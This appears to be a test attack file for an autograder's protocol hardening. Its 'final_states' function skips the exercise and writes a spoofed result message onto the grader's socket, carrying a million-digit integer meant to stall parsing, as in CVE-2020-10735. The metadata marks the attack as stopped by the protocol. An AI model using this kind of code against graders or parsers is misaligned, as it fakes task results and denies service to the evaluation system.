"""Send an integer of a million digits, which takes long to read.

Seen: CVE-2020-10735.
"""

# /// attack
# exercise = "07_deep_and_bidirectional/bidirectional_concat"
# stopped_by = "protocol"
# ///

import os
import stat
import struct
import sys

messages = sys.modules["autograder.protocol.messages"]


def channel() -> int:
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass
    return -1


def frame(payload: bytes) -> None:
    os.write(channel(), struct.pack("<I", len(payload)) + payload)


def final_states(h_n, num_layers):
    frame(messages.encode(messages.Returned(messages.BigIntValue("9" * 1_000_000))))
    return None
